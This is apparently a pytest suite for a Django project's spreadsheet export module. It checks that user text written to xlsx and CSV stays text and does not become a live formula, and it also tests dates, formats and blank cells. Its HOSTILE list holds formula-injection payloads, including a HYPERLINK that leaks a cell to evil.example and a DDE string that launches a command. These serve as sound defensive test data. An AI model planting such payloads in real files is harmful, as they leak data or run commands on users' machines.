"""User text written to xlsx and CSV stays text: never a live formula (OWASP CSV injection)."""

import csv
import datetime
import io
import re
import zipfile
from decimal import Decimal

import pytest
from django.utils.translation import gettext_lazy
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Alignment, NamedStyle

from kinerja.core import spreadsheets
from kinerja.core.tests.workbooks import framed_ranges

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["Meningkatnya cakupan layanan", "1 = 1", "#N/A", "'quoted"]


def _reloaded(workbook):
    buffer = io.BytesIO()
    workbook.save(buffer)
    return load_workbook(io.BytesIO(buffer.getvalue()))


@pytest.mark.parametrize("text", HOSTILE + HARMLESS)
def test_text_written_to_a_cell_is_stored_as_text_and_read_back_unchanged(text):
    workbook = Workbook()
    cell = spreadsheets.write_cell(workbook.active, 1, 1, text)
    assert cell.data_type == "s"
    read = _reloaded(workbook).active["A1"]
    assert read.data_type == "s"
    # XML reads a lone carriage return as a line feed: the cell stays text either way.
    assert (read.value or "") == text.replace("\r", "\n")
    assert read.quotePrefix == spreadsheets.starts_dangerously(text)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_named_style_given_with_the_text_keeps_the_quote_prefix(text):
    workbook = Workbook()
    workbook.add_named_style(NamedStyle("body", alignment=Alignment(wrap_text=True)))
    spreadsheets.write_cell(workbook.active, 1, 1, text, style="body")
    read = _reloaded(workbook).active.cell(row=1, column=1)
    assert read.style == "body" and read.alignment.wrap_text
    assert read.data_type == "s"
    assert read.quotePrefix


def test_an_empty_text_is_an_empty_cell():
    workbook = Workbook()
    assert spreadsheets.write_cell(workbook.active, 1, 1, "").value is None


@pytest.mark.parametrize("write_only", [False, True])
def test_appended_rows_keep_text_as_text_and_numbers_as_numbers(write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("data") if write_only else workbook.active
    day = datetime.date(2026, 1, 31)
    spreadsheets.append_row(sheet, [HOSTILE[0], -5, Decimal("-2.5"), 3.25, day, None, True])
    spreadsheets.append_row(sheet, HOSTILE)
    read = _reloaded(workbook).worksheets[-1]
    first = [cell for cell in read[1]]
    assert [c.data_type for c in first[:4]] == ["s", "n", "n", "n"]
    assert [c.value for c in first[1:4]] == [-5, -2.5, 3.25]
    assert first[4].value.date() == day
    assert first[5].value is None
    assert first[6].value is True
    assert [c.value for c in read[2]][: len(HOSTILE)] == [
        text.replace("\r", "\n") for text in HOSTILE
    ]
    assert all(c.data_type == "s" for c in read[2] if c.value is not None)


def test_lazy_translations_and_control_characters_do_not_break_the_export():
    workbook = Workbook()
    spreadsheets.write_cell(workbook.active, 1, 1, gettext_lazy("Year"))
    spreadsheets.write_cell(workbook.active, 2, 1, "Laporan\x0bbulanan\x00")
    read = _reloaded(workbook).active
    assert read["A1"].value in ("Year", "Tahun")
    assert read["A2"].value == "Laporanbulanan"


@pytest.mark.parametrize("text", HOSTILE)
def test_a_csv_field_with_a_dangerous_start_gets_an_apostrophe_and_reads_back(text):
    buffer = io.StringIO()
    spreadsheets.csv_writer(buffer, delimiter=";").writerow([text, -5, "Siti Aminah"])
    [row] = list(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";"))
    assert row[0] == "'" + text
    assert row[1:] == ["-5", "Siti Aminah"]
    assert spreadsheets.csv_unescape(row[0]) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_csv_field_is_written_as_it_is(text):
    assert spreadsheets.csv_field(-5) == -5
    assert spreadsheets.csv_field(text) == text
    assert spreadsheets.csv_unescape(text) == text


# --- large workbooks (XlsxWriter) ----------------------------------------------------------------


def _large(write) -> object:
    """The first sheet of a `LargeWorkbook` after `write(book, sheet, cell_format)`, read back."""
    book = spreadsheets.LargeWorkbook()
    framed = book.add_format({"border": 1, "text_wrap": True})
    sheet = book.add_worksheet("data")
    write(book, sheet, framed)
    return load_workbook(io.BytesIO(book.close())).active


@pytest.mark.parametrize("text", HOSTILE + HARMLESS)
def test_text_put_in_a_large_workbook_is_stored_as_text_and_read_back_unchanged(text):
    read = _large(lambda book, sheet, framed: book.put(sheet, 0, 0, text, framed))["A1"]
    assert read.data_type == "s"
    # XlsxWriter stores a carriage return as the escape Excel reads back as one (_x000D_),
    # which openpyxl leaves as it is.
    assert (read.value or "").replace("_x000D_", "\r") == text
    assert read.quotePrefix == spreadsheets.starts_dangerously(text)
    assert read.border.left.style == "thin" and read.alignment.wrap_text  # the format is kept


def test_a_large_workbooks_rows_keep_types_and_blank_cells_keep_their_format():
    day = datetime.date(2026, 1, 31)
    at = datetime.datetime(2026, 1, 31, 8, 30, tzinfo=datetime.UTC)
    values = [HOSTILE[0], -5, Decimal("-2.5"), 3.25, day, None, True, "", gettext_lazy("Year"), at]
    read = _large(
        lambda book, sheet, framed: book.put_row(sheet, 0, values, [framed] * len(values))
    )
    first = list(read[1])
    assert [c.data_type for c in first[:4]] == ["s", "n", "n", "n"]
    assert [c.value for c in first[1:4]] == [-5, -2.5, 3.25]
    assert first[4].value.date() == day
    assert first[5].value is None and first[7].value is None  # None and an empty text: blank
    assert first[5].border.left.style == first[7].border.left.style == "thin"
    assert first[6].value is True
    assert first[8].value in ("Year", "Tahun")
    assert first[9].value == datetime.datetime(2026, 1, 31, 15, 30)  # Asia/Jakarta, naive


def test_a_large_workbook_drops_control_characters_and_merges_titles_as_text():
    def write(book, sheet, framed):
        book.put(sheet, 0, 0, "Laporan\x0bbulanan\x00", framed)
        book.put_merged(sheet, 1, 0, 4, HOSTILE[0], framed)

    read = _large(write)
    assert read["A1"].value == "Laporanbulanan"
    assert read["A2"].value == HOSTILE[0] and read["A2"].data_type == "s"
    assert read["A2"].quotePrefix
    assert [str(r) for r in read.merged_cells.ranges] == ["A2:E2"]


def test_the_collector_is_paused_while_a_large_workbook_is_built_and_restarted_after():
    import gc

    assert gc.isenabled()
    with pytest.raises(ValueError), spreadsheets.collector_paused():
        assert not gc.isenabled()
        raise ValueError
    assert gc.isenabled()


def test_texts_repeated_in_rows_are_cleaned_and_quoted_every_time():
    rows = [[text, "Bidang\x0bUmum", ""] for text in HOSTILE + HARMLESS] * 2

    def write(book, sheet, framed):
        for number, values in enumerate(rows):
            book.put_row(sheet, number, values, [framed] * 3)

    read = _large(write)
    for number, (text, _unit, _blank) in enumerate(rows, start=1):
        first, unit, blank = read[number]
        assert (first.value or "").replace("_x000D_", "\r") == text
        assert first.data_type == "s"
        assert first.quotePrefix == spreadsheets.starts_dangerously(text)
        assert unit.value == "BidangUmum" and not unit.quotePrefix
        assert blank.value is None and blank.border.left.style == "thin"


@given(day=st.dates(min_value=datetime.date(1900, 1, 1), max_value=datetime.date(9999, 12, 31)))
@settings(max_examples=60, deadline=None)
def test_a_date_in_a_row_reads_back_as_the_same_day_as_a_date_put_alone(day):
    def write(book, sheet, framed):
        book.put_row(sheet, 0, [day, day], [framed, framed])
        book.put(sheet, 1, 0, day, framed)

    read = _large(write)
    assert read["A1"].value.date() == read["A2"].value.date() == day
    assert read["A1"].number_format == read["A2"].number_format == spreadsheets.DATE_FORMAT
    assert read["B1"].border.left.style == "thin"  # the format of the column is kept


@pytest.mark.parametrize(
    "day", [datetime.date(1900, 2, 28), datetime.date(1900, 3, 1), datetime.date(2026, 12, 31)]
)
def test_a_date_in_a_row_stores_the_serial_number_a_date_put_alone_stores(day):
    """Excel counts a 29 February 1900 that never was: the serials of the days before and after
    it are pinned here, as openpyxl reads both 59 and 60 as 28 February."""
    book = spreadsheets.LargeWorkbook()
    sheet = book.add_worksheet("data")
    book.put_row(sheet, 0, [day], [None])
    book.put(sheet, 1, 0, day)
    with zipfile.ZipFile(io.BytesIO(book.close())) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    stored = re.findall(r'<c r="A[12]"[^>]*><v>([^<]+)</v>', xml)
    assert len(stored) == 2 and stored[0] == stored[1]


def test_a_framed_table_writes_no_blank_cell_and_borders_every_cell_of_its_rows():
    def write(book, sheet, framed):
        book.put_row(sheet, 1, ["Ani", None, ""], [framed] * 3, blanks=False)
        book.put_row(sheet, 2, ["Budi", "Baik", None], [framed] * 3, blanks=False)
        book.frame(sheet, 1, 2, 2, {"border": 1})
        book.frame(sheet, 4, 3, 2, {"border": 1})  # no rows: no frame

    read = _large(write)
    rows = read.iter_rows(min_row=2, max_row=3, max_col=3)
    assert [[c.value for c in row] for row in rows] == [
        ["Ani", None, None],
        ["Budi", "Baik", None],
    ]
    assert read["B2"].border.left.style is None  # not written: the frame borders it
    assert framed_ranges(read) == ["A2:C3"]
